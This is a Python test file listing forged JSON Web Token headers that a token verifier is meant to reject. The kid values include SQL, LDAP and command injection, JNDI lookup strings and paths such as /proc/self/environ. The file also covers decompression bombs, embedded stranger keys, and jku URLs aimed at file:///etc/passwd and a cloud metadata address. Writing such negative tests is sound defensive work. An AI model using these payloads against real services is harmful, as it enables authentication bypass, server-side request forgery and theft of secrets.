"""Headers that point at other keys, bring keys along, or ask for more than this verifier does."""

import base64
import json
import zlib
from collections.abc import Mapping
from typing import Any

from cryptography.hazmat.primitives.serialization import Encoding

from tests.doors.forge import ABSENT, Forge, as_bytes, b64, hmac_with
from tests.doors.row import Build, rows
from tests.doors.rows.public_keys import certificate
from tests.support import ISSUER

URL = "https://keys.example.com/jwks.json"
OTHER_KIDS: Mapping[str, Any] = {
    "absent": ABSENT,
    "null": None,
    "empty": "",
    "a number": 1,
    "true": True,
    "an array": ["first"],
    "an object": {},
    "of no key": "2024-01",
    "a wildcard": "*",
    "a path to an empty file": "../../../../dev/null",
    "an SQL injection": "x' UNION SELECT 'secret'; --",
    "an LDAP injection": "*)(kid=*",
    "a path to a file of this machine": "/proc/self/environ",
    "a path with escapes": "..%2f..%2fdev%2fnull",
    "a command": "x|whoami",
    "a template": "${jndi:ldap://keys.example.com/a}",
    "a format": "%s%n{0}{kid}",
    "a URL": URL,
    "a lone surrogate": "\ud800",
    "of a Python attribute": "__class__",
    "of a Python method": "get",
    "of a JavaScript attribute": "__proto__",
    "false": False,
    "a float": 1.5,
    "blank": " ",
    "a zero byte": "\0",
    "a line break": "\n",
    "a thousand characters long": "k" * 1000,
    "five thousand characters long": "k" * 5000,
}
FORBIDDEN: Mapping[str, Any] = {
    "crit that names a claim": {"crit": ["exp"]},
    "crit that is empty": {"crit": []},
    "crit that is null": {"crit": None},
    "crit that names an extension, and the extension": {"crit": ["x-y"], "x-y": True},
    "crit that is text": {"crit": "exp"},
    "crit that is an object": {"crit": {}},
    "crit that names what it must not": {"crit": ["alg", "typ"]},
    "crit that names one thing twice": {"crit": ["x-y", "x-y"], "x-y": True},
    "crit that names what is absent": {"crit": ["x-y"]},
    "crit that holds a number": {"crit": [1]},
    "b64 null": {"b64": None},
    "b64 as text": {"b64": "false"},
    "b64 true": {"b64": True},
    "b64 true and critical": {"b64": True, "crit": ["b64"]},
    "zip": {"zip": "DEF"},
    "zip null": {"zip": None},
    "zip of nobody's": {"zip": "GZIP"},
    "enc": {"enc": "A256GCM"},
    "enc null": {"enc": None},
    "iv": {"iv": "AAAAAAAAAAAAAAAA"},
    "tag": {"tag": "AAAAAAAAAAAAAAAAAAAAAA"},
    "apu and apv": {"apu": "QWxpY2U", "apv": "Qm9i"},
    "p2s": {"p2s": "c2FsdA"},
    "all of a JWE's": {"enc": "A256GCM", "zip": "DEF", "epk": {}, "iv": "AA", "tag": "AA"},
    "p2c to make work": {"p2c": 2_147_483_647, "p2s": "c2FsdA"},
    "an ephemeral key": {"epk": {"kty": "EC"}},
}
POINTERS: Mapping[str, Any] = {
    "jku": {"jku": URL},
    "jku that is null": {"jku": None},
    "x5u": {"x5u": "https://keys.example.com/cert.pem"},
    "x5c": {"x5c": ["MIIB"]},
    "x5c that is empty": {"x5c": []},
    "x5t": {"x5t": "dGh1bWI"},
    "x5t#S256": {"x5t#S256": "dGh1bWI"},
    "jwk that is null": {"jwk": None},
}


def headed(members: Mapping[str, Any]) -> Build:
    """Signed by the right key: only what the header says is wrong."""
    return lambda f: f.headed(**members)


def unencoded(forge: Forge) -> str:
    """RFC 7797: the payload goes into the signature as it is."""
    header = b64(as_bytes(forge.header(b64=False, crit=["b64"])))
    payload = as_bytes(forge.claims())
    return f"{header}.{b64(payload)}.{b64(forge.sign(header.encode() + b'.' + payload))}"


def compressed(forge: Forge) -> str:
    header = b64(as_bytes(forge.header(zip="DEF")))
    return forge.resigned(header, b64(zlib.compress(as_bytes(forge.claims()))[2:-4]))


def bomb(forge: Forge) -> str:
    """Some kilobytes that unpack to some megabytes."""
    header = b64(as_bytes(forge.header(zip="DEF")))
    return forge.resigned(header, b64(zlib.compress(b" " * 4_000_000, 9)[2:-4]))


def escaped_crit(forge: Forge) -> str:
    header = as_bytes(forge.header(crit=["x-y"])).replace(b'"crit"', rb'"\u0063rit"')
    return forge.resigned(b64(header), forge.segments()[1])


def kid_in_payload(forge: Forge) -> str:
    header = b64(as_bytes(forge.header(kid=ABSENT)))
    return forge.resigned(header, b64(as_bytes(forge.claims(kid=forge.jwk["kid"]))))


def x5c(forge: Forge) -> str:
    """A stranger's certificate and signature."""
    if forge.alg.startswith("HS"):
        return brought_along(forge, x5c=["MIIB"])
    chain = [base64.b64encode(certificate(Encoding.DER)(forge.stranger)).decode()]
    return brought_along(forge, x5c=chain)


def brought_along(forge: Forge, **members: Any) -> str:
    """A stranger's signature; the kid is that of the trusted key."""
    return forge.stranger.headed(kid=forge.jwk["kid"], **members)


ROWS = (
    *rows("kid", {f"kid {name}": headed({"kid": kid}) for name, kid in OTHER_KIDS.items()}),
    *rows(
        "kid",
        {
            "kid in other case": lambda f: f.headed(kid=f.jwk["kid"].swapcase()),
            "kid with a space behind it": lambda f: f.headed(kid=f"{f.jwk['kid']} "),
            "kid with a zero byte behind it": lambda f: f.headed(kid=f"{f.jwk['kid']}\0"),
            "kid with a space in front": lambda f: f.headed(kid=f" {f.jwk['kid']}"),
            "kid with a line break behind it": lambda f: f.headed(kid=f"{f.jwk['kid']}\n"),
            "kid with padding": lambda f: f.headed(kid=f"{f.jwk['kid']}="),
            "kid in an array": lambda f: f.headed(kid=[f.jwk["kid"]]),
            "kid in an object": lambda f: f.headed(kid={"kid": f.jwk["kid"]}),
            "kid twice, with a comma": lambda f: f.headed(kid=f"{f.jwk['kid']},{f.jwk['kid']}"),
            "kid in hexadecimal": lambda f: f.headed(kid=f.jwk["kid"].encode().hex()),
            "kid behind a path": lambda f: f.headed(kid=f"./{f.jwk['kid']}"),
            "kid under another name": lambda f: f.headed(kid=ABSENT, key_id=f.jwk["kid"]),
            "KID in capitals": lambda f: f.headed(kid=ABSENT, KID=f.jwk["kid"]),
            "kid cut short": lambda f: f.headed(kid=f.jwk["kid"][:-1]),
            "kid in the payload alone": kid_in_payload,
            "kid of an empty file, and HMAC with its content": lambda f: f.signed(
                hmac_with(b""), alg="HS256", kid="/dev/null"
            ),
            "kid of a stranger's key": lambda f: f.stranger.token(),
        },
    ),
    *rows("forbidden members", {name: headed(m) for name, m in FORBIDDEN.items()}),
    *rows(
        "forbidden members",
        {
            "b64 false, and the payload unencoded": unencoded,
            "b64 false, not critical, and the payload encoded": headed({"b64": False}),
            "zip, and compressed": compressed,
            "zip, and a bomb": bomb,
            "an escaped crit": escaped_crit,
        },
    ),
    *rows("keys brought along", {name: headed(members) for name, members in POINTERS.items()}),
    *rows(
        "keys brought along",
        {
            "x5c of the stranger who signed": x5c,
            "jwk of the trusted key itself": lambda f: f.headed(jwk=f.public_jwk),
            "jwk of the stranger who signed": lambda f: brought_along(f, jwk=f.stranger.public_jwk),
            "jwk of the stranger, under his own kid": lambda f: f.stranger.headed(
                jwk=f.stranger.public_jwk
            ),
            "jwk as text": lambda f: brought_along(f, jwk=json.dumps(f.stranger.public_jwk)),
            "jku of the stranger who signed": lambda f: brought_along(f, jku=URL),
            "jku of a file": lambda f: brought_along(f, jku="file:///etc/passwd"),
            "jku of the machine's own metadata": lambda f: brought_along(
                f, jku="http://169.254.169.254/latest/meta-data/"
            ),
            "jku behind a trusted name": lambda f: brought_along(
                f, jku=f"{ISSUER}@keys.example.com/jwks.json"
            ),
            "jku of our own set, with a redirect": lambda f: brought_along(
                f, jku=f"{ISSUER}/.well-known/jwks.json?next={URL}"
            ),
            "jku of data": lambda f: brought_along(
                f, jku=f"data:application/json,{json.dumps({'keys': [f.stranger.public_jwk]})}"
            ),
            "jku of our own set, and our own signature": lambda f: f.headed(
                jku=f"{ISSUER}/.well-known/jwks.json"
            ),
            "jwk of a secret, and HMAC with it": lambda f: f.signed(
                hmac_with(b"x" * 32), jwk={"kty": "oct", "k": b64(b"x" * 32)}, alg="HS256"
            ),
            "jwk with private members": lambda f: brought_along(f, jwk=f.stranger.jwk),
            "x5u of the stranger who signed": lambda f: brought_along(f, x5u=URL),
            "x5t of the stranger who signed": lambda f: brought_along(f, x5t="dGh1bWI"),
            "a JWK Set in a member that nobody registered": lambda f: brought_along(
                f, jwks={"keys": [f.stranger.public_jwk]}
            ),
            "a key in a member that nobody registered": lambda f: brought_along(
                f, key=f.stranger.public_jwk, pem="-----BEGIN PUBLIC KEY-----"
            ),
            "a key in the payload": lambda f: f.stranger.resigned(
                f.segments()[0], b64(as_bytes(f.claims(jwk=f.stranger.public_jwk)))
            ),
            "a confirmation key in the payload": lambda f: f.stranger.resigned(
                f.segments()[0], b64(as_bytes(f.claims(cnf={"jwk": f.stranger.public_jwk})))
            ),
            "the stranger's signature, and nothing else": brought_along,
        },
    ),
)
